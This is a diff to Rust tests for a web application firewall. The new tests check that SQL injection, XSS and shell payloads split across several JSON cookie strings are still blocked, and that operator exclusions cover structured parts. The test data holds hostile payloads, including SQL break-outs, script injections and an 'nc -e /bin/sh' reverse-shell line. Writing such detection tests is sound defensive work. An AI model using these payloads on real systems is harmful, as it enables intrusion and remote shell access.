@@ -12,7 +12,7 @@ use common::{
     inspect_with, json_blocked, multipart_blocked, percent_encode, query_blocked, verdict, Place,
     EVERY_PLACE,
 };
-use rampart_waf::Policy;
+use rampart_waf::{Exclusion, Policy};
 
 /// Filler a text field really carries: words and punctuation, no attack.
 fn filler(n: usize) -> String {
@@ -1123,9 +1123,16 @@ fn attacks_inside_a_json_cookie_are_read_in_keys_values_and_break_outs() {
     ] {
         assert!(cookie(&percent_encode(shape)), "{shape}");
     }
-    // Read by structure (the match names the JSON path), not whole.
+    // Read by structure (a match names the JSON path); whole as well, as
+    // a string is not a plain token (`json_cookie_break_outs_spread_over_several_strings`).
     let cookie = percent_encode("{\"a\":\"<script>alert(1)</script>\"}");
-    assert_blocked_at("Cookie", &cookie, "cookie:$.a");
+    let h = [
+        ("Host", &b"shop.example"[..]),
+        ("Cookie", cookie.as_bytes()),
+    ];
+    let v = inspect_with(&Policy::default(), "GET", "/", "", &h, b"");
+    let at = |t: &str| v.matches.iter().any(|m| m.target == t);
+    assert!(v.block && at("cookie:$.a") && at("cookie:"), "{v:?}");
 }
 
 /// Session 11: JSON cookies of consent managers, analytics and shops pass.
@@ -1528,4 +1535,127 @@ fn a_jar_url_wrapping_another_url() {
             "jar:lid",
         ],
     );
+}
+
+/// Session 11 (waf-mend): a strict JSON cookie whose break-out uses the
+/// document's own quotes, colons and commas as its text, spread over
+/// several strings — none an attack alone: `{"":" or ","":"=","":" -- "}`
+/// read in double quotes is `"{":" or ":":"=":":" -- "}"`, a MySQL
+/// break-out; `["or","like","or"]` (plain tokens only) is `"[" or ","
+/// like "," or "]"`, a condition forced true. The whole value was read
+/// before the structured reading (6c57ab8: each blocked); the structured
+/// reading alone let the first shapes through. Now a document holding a
+/// key or string that is not a plain token, or an SQL word or `-`, is also
+/// read whole. XSS and shell pieces spread the same way stay blocked.
+#[test]
+fn json_cookie_break_outs_spread_over_several_strings() {
+    let shapes = [
+        r#"{"":" or ","":"=","":" -- "}"#,
+        r##"["x"," or ","=","#"]"##,
+        r#"["or","like","or"]"#,
+        r#"{"or":"or"}"#,
+        r#"{"or":"--"}"#,
+        r#"["<svg","onload=alert(1)>"]"#,
+        r#"["<scr","ipt>alert(1)</scr","ipt>"]"#,
+        r#"{"a":"<img src=x ","b":" onerror=alert(1)>"}"#,
+        r#"{"a":"x;","b":"cat /etc/hosts"}"#,
+        r#"{"a":"|","b":"nc -e /bin/sh 10.0.0.1 4444"}"#,
+    ];
+    let mut passed = Vec::new();
+    for shape in shapes {
+        for v in [shape.to_string(), percent_encode(shape)] {
+            if !header_blocked("Cookie", format!("theme=dark; c={v}").as_bytes()) {
+                passed.push(v);
+            }
+        }
+    }
+    assert!(passed.is_empty(), "passed: {passed:#?}");
+}
+
+/// Session 11 (waf-mend): an operator's exclusion on the whole structured
+/// value — `header:referer`, `header:origin`, `cookie:NAME` — still covers
+/// the hits in the parts read by structure (`referer-args:q`,
+/// `referer-path`, `referer-path:N`, `cookie:NAME$.a`), as it covered the
+/// whole value read as one text before (6c57ab8). An exclusion on another
+/// target does not.
+#[test]
+fn exclusions_on_a_structured_value_cover_its_parts() {
+    let xss = percent_encode("<script>alert(document.cookie)</script>");
+    let sql = percent_encode("' OR '1'='1' --");
+    let cases = [
+        (
+            "Referer",
+            "header:referer",
+            format!("https://shop.example.com/s?q={xss}"),
+        ),
+        (
+            "Referer",
+            "header:referer",
+            format!("https://shop.example.com/?{sql}=1"),
+        ),
+        (
+            "Referer",
+            "header:referer",
+            format!("https://shop.example.com/a/{xss}/b"),
+        ),
+        (
+            "Origin",
+            "header:origin",
+            format!("https://shop.example.com/{sql}"),
+        ),
+        (
+            "Cookie",
+            "cookie:prefs",
+            percent_encode(r#"{"a":"<script>alert(1)</script>"}"#),
+        ),
+        (
+            "Cookie",
+            "cookie:prefs",
+            percent_encode(r#"{"a":{"b":["x' OR '1'='1' --"]}}"#),
+        ),
+        (
+            "Cookie",
+            "cookie:prefs",
+            r#"{"":" or ","":"=","":" -- "}"#.to_string(),
+        ),
+    ];
+    for (header, whole, value) in cases {
+        let value = if header == "Cookie" {
+            format!("theme=dark; prefs={value}")
+        } else {
+            value
+        };
+        let h = [("Host", &b"shop.example"[..]), (header, value.as_bytes())];
+        let verdict = |policy: &Policy| inspect_with(policy, "GET", "/", "", &h, b"");
+        let open = verdict(&Policy::default());
+        assert!(open.block, "{header}: {value}: {open:?}");
+        // The families that fired, each excluded on `target`.
+        let excluding = |target: &str| Policy {
+            exclusions: open
+                .matches
+                .iter()
+                .map(|m| Exclusion {
+                    rule_id: None,
+                    family: Some(m.family),
+                    target: Some(target.to_string()),
+                    path_prefix: None,
+                })
+                .collect(),
+            ..Policy::default()
+        };
+        let excluded = verdict(&excluding(whole));
+        assert!(
+            excluded.score == 0 && excluded.matches.is_empty(),
+            "{header}: {value}: excluded on {whole}: {excluded:?}"
+        );
+        let other = if header == "Cookie" {
+            "cookie:theme"
+        } else {
+            "header:user-agent"
+        };
+        assert!(
+            verdict(&excluding(other)).block,
+            "{header}: {value}: excluded on {other}"
+        );
+    }
 }
